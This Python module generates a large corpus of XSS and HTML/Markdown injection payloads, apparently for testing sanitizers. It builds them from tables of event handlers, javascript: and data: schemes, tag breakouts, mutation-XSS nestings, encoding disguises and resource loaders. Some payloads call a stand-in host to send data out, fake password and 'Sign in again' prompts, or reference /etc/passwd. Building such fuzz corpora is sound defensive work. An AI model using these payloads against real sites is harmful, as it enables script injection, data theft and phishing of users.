"""Thousands of hostile texts out of small tables: every way in times every harm, always the same ones.

The kinds follow the public collections (OWASP's and PortSwigger's cheat sheets, DOMPurify's fixtures,
html5lib's tests): handlers, script addresses, breakouts, confused namespaces, Markdown, disguises, loaders.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

SINK = "http://sink.example"
HIT = "window.hits=(window.hits||0)+1"

EVENTS = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy
beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur
bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange
contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit
dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin
focusout formdata fullscreenchange gotpointercapture hashchange help input invalid keydown keypress
keyup languagechange load loadeddata loadedmetadata loadend loadstart location lostpointercapture
message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel
offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter
pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress
ratechange readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange
search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange
stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange
waiting webkitanimationend webkittransitionend wheel
""".split()

CARRIERS = [
    "<img src=x on{event}={hit}>",
    "<svg on{event}='{hit}'>",
    '<body on{event}="{hit}">',
    "<p/on{event}={hit}>x",
    "<a href=# tabindex=1 autofocus on{event}={hit}>x</a>",
    "<video autoplay controls\ton{event}={hit}><source src=x></video>",
    "<details open\non{event}={hit}><summary>x",
    "<x ON{event}=`{hit}` contenteditable autofocus style=display:block>x",
    "<input type=text autofocus on{event} = {hit} //",
    '" on{event}="{hit}" x="',
    "' autofocus tabindex=1 on{event}='{hit}",
]
"""Elements and half-open attributes that take each event."""

ELEMENTS = """
a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink
blockquote body br button canvas caption center cite code col colgroup command content custom-
element data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption
figure font footer form frame frameset h1 head header hgroup hr html i iframe image img input ins
isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem meta meter
multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture
plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select
selectedcontent shadow slot small source spacer span strike strong style sub summary sup svg table
tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp xss
""".split()

ELEMENT_FORMS = [
    "<{name} onfocus={hit} autofocus tabindex=1>x</{name}>",
    "<{name} src={sink}/{name} href={sink}/{name} data={sink}/{name}>",
    "<{name} style='position:fixed;inset:0;background:url({sink}/{name}.png)'>x</{name}>",
    "</{name}><script>{hit}</script>",
    "<{name}><img src=x onerror={hit}></{name}>",
]

SCHEMES = [
    "javascript:{hit}",
    "JaVaScRiPt:{hit}",
    " javascript:{hit}",
    "\tjavascript:{hit}",
    "java\tscript:{hit}",
    "java\nscript:{hit}",
    "java\rscript:{hit}",
    "javascript\t:{hit}",
    "\x01javascript:{hit}",
    "\x00javascript:{hit}",
    "java\x00script:{hit}",
    "\u00a0javascript:{hit}",
    "\u2028javascript:{hit}",
    "\ufeffjavascript:{hit}",
    "java\u00adscript:{hit}",
    "javascript&colon;{hit}",
    "javascript&#58;{hit}",
    "javascript&#x3a;{hit}",
    "java&Tab;script:{hit}",
    "java&NewLine;script:{hit}",
    "&#106;avascript:{hit}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{hit}",
    "&#0000106&#0000097vascript:{hit}",
    "java%0ascript:{hit}",
    "javascript%3A{hit}",
    "%6Aavascript:{hit}",
    "javascript://sink.example/%0a{hit}",
    "javascript:/*--></title></style></textarea></script>*/{hit}",
    "javascript:void({hit})",
    "javascript:'<script>{hit}</script>'",
    "\\javascript:{hit}",
    "jav\\u0061script:{hit}",
    "feed:javascript:{hit}",
    "view-source:javascript:{hit}",
    "vbscript:msgbox(1)",
    "VBSCRIPT:{hit}",
    "livescript:{hit}",
    "mocha:{hit}",
    "data:text/html,<script>{hit}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0cz0xPC9zY3JpcHQ+",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{hit}'/>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{hit}</x:script>",
    "data:,{hit}",
    "blob:{sink}/x",
    "filesystem:{sink}/temporary/x",
    "file:///etc/passwd",
    "ms-its:{sink}::/x",
]
"""Addresses that run something, with their spellings."""

LINKS = [
    '<a href="{url}">x</a>',
    "<a href={url}>x</a>",
    "<a href='{url}' target=_self autofocus>x",
    "<iframe src='{url}'></iframe>",
    '<embed src="{url}">',
    '<object data="{url}"></object>',
    "<form action='{url}'><input type=submit></form>",
    "<button form=f formaction='{url}'>x</button><form id=f></form>",
    "<svg><a xlink:href='{url}'><text y=20>x</text></a></svg>",
    "<svg><use href='{url}'/></svg>",
    "<svg><a><animate attributeName=href values='{url}'/><text y=20>x</text></a></svg>",
    "<math href='{url}'>x</math>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<img src='{url}'>",
    "<area href='{url}' shape=default>",
    "<body background='{url}'>",
    "[x]({url})",
    "[x](<{url}>)",
    "[x]({url} 'title')",
    "[x][r]\n\n[r]: {url}",
    "[x]\n\n[x]: <{url}>",
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "<{url}>",
    "{url}",
    "**[x]({url})**",
    "`[x`]({url})",
    "- [x]({url})\n- y",
    "> [x]({url})",
    "| [x]({url}) |\n|---|\n| y |",
    "[![x]({url})]({url})",
    '[x]({url} "\' onmouseover={hit} ")',
]
"""Places that take an address: elements, and Markdown."""

HARMS = [
    "<script>{hit}</script>",
    "<img src=x onerror={hit}>",
    "<svg onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg/onload={hit}//",
    "<iframe srcdoc='<script>parent.{hit}</script>'>",
    "<iframe src=javascript:parent.{hit}>",
    "<details open ontoggle={hit}>",
    "<style onload={hit}></style>",
    "<video><source onerror={hit}>",
    "<input autofocus onfocus={hit}>",
    "<object data=javascript:{hit}>",
    "<a href=javascript:{hit}>x</a>",
    "<script src={sink}/x.js></script>",
    "<img src={sink}/x.png>",
    "<link rel=stylesheet href={sink}/x.css>",
    "<form action={sink}/f><input name=password><button>Sign in</button></form>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
]
"""What would do harm if it were markup."""

BREAKOUTS = [
    "{harm}",
    '">{harm}',
    "'>{harm}",
    "`>{harm}",
    ">{harm}",
    '"/>{harm}<x y="',
    '" x=">{harm}',
    "</textarea>{harm}",
    "</title>{harm}",
    "</style>{harm}",
    "</script>{harm}",
    "</noscript>{harm}",
    "</template>{harm}",
    "</xmp>{harm}",
    "</iframe>{harm}",
    "</select>{harm}",
    "</button></form>{harm}",
    "</blockquote></details>{harm}",
    "</pre></code>{harm}",
    "</svg>{harm}",
    "</math>{harm}",
    "-->{harm}",
    "--!>{harm}",
    "<!-->{harm}-->",
    "<!--><!--->{harm}",
    "<!-- --!>{harm}",
    "<![CDATA[{harm}]]>",
    "]]>{harm}",
    "<?xml {harm}?>",
    "<!doctype {harm}>",
    "</p{harm}",
    "<p title='</p>{harm}'>",
    '<p title="{harm}">',
    "<b <{harm}",
    "<<{harm}",
    "\\'-alert(1)-\\'{harm}",
    "${{harm}}",
    "{{{{harm}}}}",
    "`{harm}`",
    "``` {harm}\n{harm}\n```",
    "    {harm}",
    "# {harm}",
    "- {harm}",
    "1. {harm}",
    "> {harm}",
    "| {harm} |\n|---|\n| {harm} |",
    "**{harm}**",
    "*{harm}",
    "_{harm}_",
    "[{harm}](x)",
    "![{harm}](x)",
    "[x](y '{harm}')",
    "[^1]\n\n[^1]: {harm}",
    "\\{harm}",
    "<https://{harm}>",
    "$${harm}$$",
    "\u202e{harm}",
    "\u2028{harm}\u2029",
    "\u200b{harm}",
    "\ufeff{harm}",
]
"""What stands around it, to get out of where it is."""

CONFUSIONS = [
    "<math><mtext><table><mglyph><style><!--</style>{harm}",
    "<math><mtext><mglyph><style><math><annotation-xml encoding='text/html'>{harm}",
    "<math><annotation-xml encoding='application/xhtml+xml'>{harm}</annotation-xml></math>",
    "<math><mi><table><mglyph><style>{harm}</style>",
    "<math><mn><style>{harm}</style></mn></math>",
    "<math><maction actiontype=statusline#x xlink:href=javascript:x>{harm}</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{harm}",
    "<svg><style>{harm}</style></svg>",
    "<svg><style><![CDATA[</style>{harm}]]></svg>",
    "<svg></p><style><a id='</style>{harm}'>",
    "<svg><desc>{harm}</desc></svg>",
    "<svg><title><style>{harm}</style></title></svg>",
    "<svg><foreignObject>{harm}</foreignObject></svg>",
    "<svg><foreignObject><math><mtext>{harm}",
    "<svg><p><style><!--</style>{harm}-->",
    "<svg><font color=x>{harm}",
    "<svg xmlns='http://www.w3.org/1999/xhtml'>{harm}</svg>",
    "<x:svg xmlns:x='http://www.w3.org/2000/svg'>{harm}</x:svg>",
    "<noscript><p title='</noscript>{harm}'>",
    "<noscript><style></noscript>{harm}",
    "<noembed><p title='</noembed>{harm}'>",
    "<noframes><p title='</noframes>{harm}'>",
    "<iframe><p title='</iframe>{harm}'>",
    "<xmp><p title='</xmp>{harm}'>",
    "<textarea><p title='</textarea>{harm}'>",
    "<title><p title='</title>{harm}'>",
    "<style><p title='</style>{harm}'>",
    "<script><!--<script></script>{harm}--></script>",
    "<template>{harm}</template>",
    "<template shadowrootmode=open>{harm}</template>",
    "<template><template></template>{harm}",
    "<div><template shadowroot=open>{harm}",
    "<select><template><style><!--</style><a rel='--></style></template></select>{harm}'>",
    "<select><option><style></option></select>{harm}</style>",
    "<select><button><selectedcontent></button><option>{harm}",
    "<table><td><form>{harm}</form></td></table>",
    "<table><caption><svg>{harm}",
    "<a><table><a>{harm}",
    "<b><p><b></p>{harm}",
    "<nobr><nobr>{harm}",
    "<option><style></option></select><b>{harm}</style></option>",
    "<listing>&lt;img src=x onerror={hit}&gt;</listing>{harm}",
    "<plaintext>{harm}",
    "<frameset><frame src=javascript:{hit}>{harm}</frameset>",
    "<image href=x>{harm}",
    "<isindex prompt='{harm}'>",
    "<input name=attributes><input name=innerHTML><form id=x>{harm}</form>",
    "<a id=document><a id=document name=body>{harm}",
    "<img name=currentScript><img name=getElementById>{harm}",
    "<?php {harm} ?>",
    "<% {harm} %>",
    "<ruby><rtc><rp>{harm}",
]
"""Nestings that parsers understand differently the second time (mutation)."""

DISGUISES = [
    lambda text: text.upper(),
    lambda text: "".join(each.upper() if place % 2 else each for place, each in enumerate(text)),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&LT").replace(">", "&GT"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    lambda text: text.replace("<", "&#x3C").replace(">", "&#x3E"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "%253C").replace(">", "%253E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\\3c ").replace(">", "\\3e "),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
    lambda text: text.replace("<", "\u00bc").replace(">", "\u00be"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("<", "\\<"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0b"),
    lambda text: text.replace("=", "\n=\n"),
    lambda text: text.replace(">", ""),
    lambda text: text.replace(">", "\n>"),
    lambda text: text.replace("script", "scr\x00ipt").replace("on", "o\x00n"),
    lambda text: text.replace("script", "scr<!---->ipt"),
    lambda text: text.replace("script", "scrscriptipt").replace("onerror", "ononerrorerror"),
    lambda text: text.replace("s", "\u017f").replace("k", "\u212a"),
    lambda text: text.replace("window", "\\u0077indow"),
    lambda text: text.replace("window", "&#119;indow"),
    lambda text: text.encode("utf-8").decode("latin-1"),
    lambda text: f"{text}\x00{text}",
    lambda text: f"{text[:9]}\r\n\r\n{text[9:]}",
]
"""Spellings of the same."""

LOADERS = [
    "<img src={url}>",
    "<img srcset='{url} 1x, {url} 2x'>",
    "<img src=x lowsrc={url} dynsrc={url} longdesc={url}>",
    "<picture><source srcset={url}><img></picture>",
    "<image src={url}>",
    "<input type=image src={url}>",
    "<audio src={url} autoplay></audio>",
    "<video src={url} autoplay muted></video>",
    "<video poster={url}></video>",
    "<video><track default src={url}></video>",
    "<audio><source src={url}></audio>",
    "<embed src={url}>",
    "<object data={url}></object>",
    "<object><param name=movie value={url}></object>",
    "<applet code={url} archive={url}></applet>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<img src={url}>'></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<portal src={url}></portal>",
    "<fencedframe src={url}></fencedframe>",
    "<script src={url}></script>",
    "<script type=module>import '{url}'</script>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"x":"{url}"}}}}</script>',
    "<link rel=stylesheet href={url}>",
    "<link rel=icon href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=modulepreload href={url}>",
    "<link rel=prerender href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=manifest href={url}>",
    "<link rel=import href={url}>",
    "<link rel=payment href={url}>",
    "<style>@import url({url});</style>",
    "<style>@import '{url}';</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<style>*{{background:url({url})}}</style>",
    "<style>*{{background:image-set('{url}' 1x)}}</style>",
    "<style>*{{cursor:url({url}),auto}}</style>",
    "<style>li{{list-style:url({url})}}</style>",
    "<style>p::before{{content:url({url})}}</style>",
    "<style>input[value^=a]{{background:url({url})}}</style>",
    "<style>@namespace url({url});</style>",
    "<div style='background:url({url})'>x</div>",
    "<div style='background-image:url(\"{url}\")'>x</div>",
    "<div style='border-image:url({url}) 1'>x</div>",
    "<div style='mask:url({url})'>x</div>",
    "<div style='filter:url({url}#x)'>x</div>",
    "<div style='offset-path:url({url}#x)'>x</div>",
    "<div style='behavior:url({url})'>x</div>",
    "<div style='-moz-binding:url({url})'>x</div>",
    "<body background={url}>",
    "<table background={url}><td background={url}>x</table>",
    "<svg><image href={url} /></svg>",
    "<svg><image xlink:href={url} /></svg>",
    "<svg><use href={url}#x /></svg>",
    "<svg><feImage href={url} /></svg>",
    "<svg><script href={url} /></svg>",
    "<svg><style>@import url({url});</style></svg>",
    "<svg><linearGradient href={url} /></svg>",
    "<svg><rect fill='url({url}#x)' /></svg>",
    "<svg><cursor xlink:href={url} /></svg>",
    "<svg><image><set attributeName=href to={url} /></image></svg>",
    "<math><mglyph src={url} /></math>",
    "<math xlink:href={url}>x</math>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0 {url}'>",
    "<meta http-equiv=Set-Cookie content='x=y'><img src={url}>",
    "<meta http-equiv=Content-Security-Policy content='report-uri {url}'>",
    "<meta name=referrer content=unsafe-url><img src={url}>",
    "<base href={url}>",
    "<base target=_blank><a href={url}>x</a>",
    "<a href={url} ping={url}>x</a>",
    "<a href=# ping={url}>x</a>",
    "<area shape=default href={url} ping={url}>",
    "<a href={url} download>x</a>",
    "<a attributionsrc={url} href=#>x</a>",
    "<form action={url}><input name=q autofocus></form>",
    "<form method=post action={url}><input type=hidden name=x value=y><button>Go on</button></form>",
    "<button formaction={url} form=composer>x</button>",
    "<input form=composer type=submit formaction={url}>",
    "<isindex action={url}>",
    "<html manifest={url}>",
    "<head profile={url}>",
    "<bgsound src={url}>",
    "<blockquote cite={url}>x</blockquote>",
    "<img src=x usemap=#m><map name=m><area href={url} shape=default></map>",
    "<div itemscope itemprop=url content={url}>x</div>",
    "<?xml-stylesheet href='{url}'?>",
    "<!DOCTYPE html SYSTEM '{url}'>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '{url}'>]>&y;",
    "<dialog open style='position:fixed;inset:0'><iframe src={url}></dialog>",
    "<div popover id=p style='position:fixed;inset:0;display:block'><img src={url}></div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'><a href={url}>Sign in again</a></div>",
    "![x]({url})",
    "![x](<{url}>)",
    "![x]({url} 'title')",
    "![x][r]\n\n[r]: {url}",
    "![r]\n\n[r]: <{url}> 'title'",
    "[![x]({url})](y)",
    "![x]({url}?text=secret)",
    "[x]({url})",
    "[Sign in again]({url})",
    "[x][r]\n\n[r]: {url}",
    "[^1]\n\n[^1]: ![x]({url})",
    "<{url}>",
    "{url}",
    "- ![x]({url})",
    "> ![x]({url})",
    "| ![x]({url}) |\n|---|\n| y |",
    "# ![x]({url})",
    "**![x]({url})**",
    "`a` ![x]({url}) `b`",
]
"""Everything that can ask another server for something."""

SINK_SPELLINGS = [
    "{sink}/x",
    "//sink.example/x",
    "https://sink.example/x",
    "HTTP://SINK.EXAMPLE/x",
    "http:\\\\sink.example\\x",
    "/\\sink.example/x",
    "http:/\t/sink.example/x",
    "&#104;ttp://sink.example/x",
    "http&colon;//sink&period;example/x",
    "http://127.0.0.1@sink.example/x",
    "http://sink%2Eexample/x",
    "ws://sink.example/x",
]
"""Spellings of an address of the sink."""


def make_payloads() -> list[str]:
    """All of them, each once, in an order that is mixed and always the same."""
    payloads = list(dict.fromkeys(_make_all()))
    random.Random(20261122).shuffle(payloads)
    return payloads


def _make_all() -> Iterator[str]:
    given = {"hit": HIT, "sink": SINK}
    for event, carrier in product(EVENTS, CARRIERS):
        yield carrier.format(event=event, **given)
    for name, form in product(ELEMENTS, ELEMENT_FORMS):
        yield form.format(name=name, **given)
    for scheme, link in product(SCHEMES, LINKS):
        yield link.format(url=scheme.format(**given), **given)
    for harm, around in product(HARMS, [*BREAKOUTS, *CONFUSIONS]):
        yield around.replace("{harm}", harm).replace("{hit}", HIT).replace("{sink}", SINK)
    for harm, disguise in product(HARMS, DISGUISES):
        yield disguise(harm.format(**given))
    for spelling, loader in product(SINK_SPELLINGS, LOADERS):
        yield loader.format(url=spelling.format(**given), **given)
